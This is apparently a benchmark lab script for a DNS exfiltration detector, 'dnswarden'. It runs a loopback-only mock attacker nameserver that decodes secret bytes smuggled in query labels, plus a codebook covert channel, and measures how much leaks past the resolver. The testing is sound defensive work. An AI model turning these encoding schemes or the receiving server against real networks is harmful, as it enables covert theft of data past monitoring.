// bench/lab.mjs — the attack lab (issue 14): a small attacker authoritative DNS server (node dgram on loopback)
// answers every name it is asked, logs what reaches it and decodes the payload, so "bytes out" is counted at the
// attacker's end; a real `dnswarden serve` process (dist/, built) stands between the attack and it. Each attack
// class is played from its own loopback source address (its own session), as fast as the socket goes, and the
// lab prints the secret bytes the attacker decoded per class. Never leaves the machine: loopback only, the
// attacker's answers point at TEST-NET-2.
//   npm run build && node bench/lab.mjs            (LAB_CLASSES=shape-hex,adaptive-base32 to pick classes)
//   LAB_ATTACKER=silent|late  the attacker's nameserver never answers (it only wants the labels), or answers 1.5 s
//                             late; LAB_PARALLEL=N keeps N queries in flight (default 1: one after another)
//   LAB_CLASSES=codebook      the repeat channel: 16 fixed two-letter names under one domain, one per secret nibble,
//                             asked again and again (the attacker answers with TTL 0, so every repeat reaches it);
//                             its bytes are counted from the order of the queries that arrive, not from new labels
// Owns its child processes and sockets; stops them on exit. Writes nothing but a temp dir it removes.
import { spawn } from 'node:child_process';
import dgram from 'node:dgram';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exfilStreams } from '../fixtures/corpora/generate.mjs';

const root = new URL('..', import.meta.url).pathname;
const TOKEN = 'lab-admin-token-not-secret-0123456789';
const ATTACKER = process.env.LAB_ATTACKER ?? 'answers';
const PARALLEL = Math.max(1, Number(process.env.LAB_PARALLEL ?? 1));

// ---------- wire ----------
function encodeQuery(id, name, qtype) {
  const parts = name.split('.').filter(Boolean);
  const q = Buffer.alloc(12 + parts.reduce((n, p) => n + p.length + 1, 0) + 5 + 11);
  q.writeUInt16BE(id, 0);
  q.writeUInt16BE(0x0100, 2); // RD
  q.writeUInt16BE(1, 4);
  q.writeUInt16BE(1, 10); // an OPT record: EDNS, so refusals carry their EDE text
  let o = 12;
  for (const p of parts) {
    q[o++] = p.length;
    o += q.write(p, o, 'latin1');
  }
  q[o++] = 0;
  q.writeUInt16BE(qtype, o);
  q.writeUInt16BE(1, o + 2);
  q.writeUInt16BE(41, o + 5); // root name (0), TYPE OPT
  q.writeUInt16BE(1232, o + 7); // UDP payload size; TTL 0 and RDLEN 0 follow (zeroes)
  return q;
}
/** The question name (case as sent) and the end offset of the question. */
function readQuestion(buf) {
  const labels = [];
  let o = 12;
  while (buf[o] !== 0) {
    labels.push(buf.toString('latin1', o + 1, o + 1 + buf[o]));
    o += buf[o] + 1;
  }
  return { name: labels.join('.'), end: o + 5 };
}

// ---------- decoders (the attacker's side) ----------
const B32 = 'abcdefghijklmnopqrstuvwxyz234567';
const base32d = (s) => {
  let bits = 0, acc = 0;
  const out = [];
  for (const c of s.toLowerCase()) {
    const v = B32.indexOf(c);
    if (v < 0) return undefined;
    acc = (acc << 5) | v;
    bits += 5;
    if (bits >= 8) {
      out.push((acc >>> (bits - 8)) & 255);
      bits -= 8;
    }
  }
  return out.length;
};
const baseNd = (alphabet) => (s) => {
  let v = 0n;
  for (const c of s) {
    const d = alphabet.indexOf(c);
    if (d < 0) return undefined;
    v = v * BigInt(alphabet.length) + BigInt(d);
  }
  return Math.max(1, Math.ceil(v.toString(2).length / 8));
};
const DECODE = {
  hex: (s) => (/^[0-9a-f]+$/i.test(s) && s.length % 2 === 0 ? s.length / 2 : undefined),
  base32: base32d,
  base64url: (s) => (/^[A-Za-z0-9_-]+$/.test(s) ? Math.floor((s.length * 3) / 4) : undefined),
  base36: baseNd('0123456789abcdefghijklmnopqrstuvwxyz'),
  base58: baseNd('123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'),
  base62: baseNd('0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'),
  words: (s) => (/^[a-z]{4}(-[a-z]{4})*$/.test(s) ? s.split('-').length : undefined),
};
/** The codec of a stream kind (`shape-base62-…`, `adaptive-hex-…`). */
const codecOf = (kind) => /^(?:shape|adaptive)-(hex|base32|base36|base58|base62|base64url|words)-/.exec(kind)?.[1];

// The repeat channel's codebook: a nibble per query, by which of 16 known names is asked (none carries data itself).
const CODEBOOK = ['ab', 'cd', 'ef', 'gh', 'ij', 'kl', 'mn', 'op', 'qr', 'st', 'uv', 'wx', 'yz', 'ba', 'dc', 'fe'];
/** A 512-byte secret as codebook queries under `domain`: two per byte, high nibble first. */
function codebookStream(domain, seed) {
  const lines = [];
  let x = seed;
  for (let i = 0; i < 512; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    const byte = x >>> 23;
    for (const n of [byte >> 4, byte & 15]) lines.push({ kind: 'codebook-repeat', session: `codebook-${seed}`, session_type: 'interactive', qname: `${CODEBOOK[n]}.${domain}`, qtype: 1, data: true });
  }
  return lines;
}

// ---------- the attacker ----------
function startAttacker() {
  const sock = dgram.createSocket('udp4');
  const seen = new Map(); // registrable → Set of data labels (retries and cache refreshes count once)
  const arrivals = new Map(); // registrable → codebook nibbles in arrival order (every query counts: the order is the data)
  sock.on('message', (msg, rinfo) => {
    if (msg.length < 17) return;
    const { name, end } = readQuestion(msg);
    const labels = name.split('.');
    const nibble = CODEBOOK.indexOf(labels[0]);
    if (labels.length === 3 && nibble >= 0) {
      const k = labels.slice(-2).join('.').toLowerCase();
      if (!arrivals.has(k)) arrivals.set(k, []);
      arrivals.get(k).push(nibble);
    }
    const data = labels.slice(0, -2).filter((l) => l.length > 3 && !/^\d{1,5}$/.test(l)); // strip sequence counters (`0042`, the corpus's `00a`)
    const key = labels.slice(-2).join('.').toLowerCase();
    let s = seen.get(key);
    if (s === undefined) seen.set(key, (s = new Set()));
    for (const l of data) s.add(l);
    // answer: the question, one A record 198.51.100.7, TTL 0 (AA)
    const head = Buffer.from(msg.subarray(0, end));
    head.writeUInt16BE(0x8400 | (msg.readUInt16BE(2) & 0x0100), 2);
    head.writeUInt16BE(1, 4);
    head.writeUInt16BE(0, 8);
    head.writeUInt16BE(0, 10);
    head.writeUInt16BE(msg.readUInt16BE(end - 4) === 1 ? 1 : 0, 6);
    const rr = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 198, 51, 100, 7]);
    const reply = msg.readUInt16BE(end - 4) === 1 ? Buffer.concat([head, rr]) : head;
    if (ATTACKER === 'silent') return;
    if (ATTACKER === 'late') setTimeout(() => sock.send(reply, rinfo.port, rinfo.address), 1500);
    else sock.send(reply, rinfo.port, rinfo.address);
  });
  return new Promise((ok) => sock.bind(0, '127.0.0.1', () => ok({ port: sock.address().port, seen, arrivals, close: () => sock.close() })));
}

/** Secret bytes the attacker can decode from the labels it received under `domains`. */
function decodedBytes(attacker, domains, codec) {
  let bytes = 0;
  for (const d of domains) {
    for (const l of attacker.seen.get(d) ?? []) bytes += DECODE[codec](l) ?? 0;
  }
  return bytes;
}

// ---------- the resolver ----------
async function freePort() {
  const s = dgram.createSocket('udp4');
  await new Promise((ok) => s.bind(0, '127.0.0.1', ok));
  const p = s.address().port;
  s.close();
  return p;
}

function query(client, port, name, qtype, id) {
  return new Promise((ok) => {
    const timer = setTimeout(() => {
      client.off('message', on);
      ok({ rcode: -1, ede: undefined });
    }, 3000);
    const on = (msg) => {
      if (msg.readUInt16BE(0) !== id) return;
      clearTimeout(timer);
      client.off('message', on);
      const text = msg.toString('latin1');
      ok({ rcode: msg[3] & 15, quarantined: text.includes('session quarantined') || text.includes('encoded-looking') || text.includes('unique labels') });
    };
    client.on('message', on);
    client.send(encodeQuery(id, name, qtype), port, '127.0.0.1');
  });
}

async function main() {
  const want = (process.env.LAB_CLASSES ?? 'shape-,adaptive-').split(',');
  const byKind = new Map();
  for (const l of exfilStreams()) {
    if (!want.some((w) => l.kind.startsWith(w)) || codecOf(l.kind) === undefined || l.kind.startsWith('adaptive-mx')) continue;
    if (!byKind.has(l.session)) byKind.set(l.session, []);
    byKind.get(l.session).push(l);
  }
  const streams = [...byKind.values()].slice(0, 200);
  if (want.includes('codebook')) streams.push(codebookStream('cbook.test', 7));
  const attacker = await startAttacker();
  const dir = mkdtempSync(join(tmpdir(), 'dnswarden-lab-'));
  const dnsPort = await freePort();
  const adminPort = await freePort();
  const config = {
    listen: { dns: [`127.0.0.1:${dnsPort}`], admin: `127.0.0.1:${adminPort}` },
    admin: { token: TOKEN },
    storage: { dir: join(dir, 'data') },
    upstreams: [{ address: `127.0.0.1:${attacker.port}`, timeout_ms: ATTACKER === 'late' ? 3000 : 1000 }],
    // one session per stream, from its own loopback address; the type the corpus gave it
    sessions: { static: streams.map((ls, i) => ({ id: `lab-${i}`, addresses: [`127.0.1.${i + 1}/32`], type: ls[0].session_type, user: 'lab', role: 'attacker' })) },
    // played as fast as the socket goes: the per-minute bandwidth cap would only block (never quarantine); lifted
    // so what is measured is what the budgets let out
    policy: { session_types: Object.fromEntries(['interactive', 'batch', 'scheduled'].map((t) => [t, { bandwidth_bytes_per_min: 1e9 }])) },
  };
  // JSON is YAML: no dependency needed
  writeFileSync(join(dir, 'dnswarden.json.yaml'), JSON.stringify(config));
  const child = spawn(process.execPath, [join(root, 'dist/src/cli.js'), 'serve', '--config', join(dir, 'dnswarden.json.yaml')], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (c) => (out += c));
  child.stderr.on('data', (c) => (out += c));
  const stop = () => {
    if (child.exitCode === null) child.kill('SIGTERM');
    attacker.close();
    rmSync(dir, { recursive: true, force: true });
  };
  process.on('SIGINT', () => {
    stop();
    process.exit(130);
  });
  try {
    const t0 = Date.now();
    while (!out.includes('"dnswarden ready"')) {
      if (child.exitCode !== null || Date.now() - t0 > 20_000) throw new Error(`dnswarden did not start:\n${out.slice(-2000)}`);
      await new Promise((ok) => setTimeout(ok, 50));
    }
    console.log('class'.padEnd(40), 'type'.padEnd(11), 'queries sent / answered', ' bytes decoded at the attacker', ' quarantined');
    let id = 1;
    for (const [i, lines] of streams.entries()) {
      const client = dgram.createSocket('udp4');
      await new Promise((ok) => client.bind(0, `127.0.1.${i + 1}`, ok));
      const kind = lines[0].kind;
      let sent = 0;
      let answered = 0;
      let quarantined = false;
      client.setMaxListeners(PARALLEL + 10);
      for (let k = 0; k < lines.length && !quarantined && sent < 1500; k += PARALLEL) {
        const batch = lines.slice(k, k + PARALLEL);
        const replies = await Promise.all(batch.map((l) => query(client, dnsPort, l.qname, l.qtype, (id = (id + 1) & 0xffff))));
        for (const r of replies) {
          sent++;
          if (r.rcode === 0) answered++;
          if (r.quarantined) quarantined = true;
        }
      }
      client.close();
      const domains = [...new Set(lines.filter((l) => l.data === true).map((l) => l.qname.split('.').slice(-2).join('.').toLowerCase()))];
      // A codebook's bytes: the nibbles that arrived, in order, past the 16 first sightings (those are new labels,
      // counted by the budgets like any); a label stream's: what its labels decode to.
      const bytes = kind === 'codebook-repeat' ? Math.floor(Math.max(0, (attacker.arrivals.get(domains[0])?.length ?? 0) - CODEBOOK.length) / 2) : decodedBytes(attacker, domains, codecOf(kind));
      console.log(kind.padEnd(40), lines[0].session_type.padEnd(11), `${sent} / ${answered}`.padEnd(24), String(bytes).padStart(30), quarantined ? ' yes' : ' NO');
      // the attacker's domains are shared by streams: forget them before the next one
      for (const d of domains) {
        attacker.seen.delete(d);
        attacker.arrivals.delete(d);
      }
    }
  } finally {
    stop();
  }
}

await main();
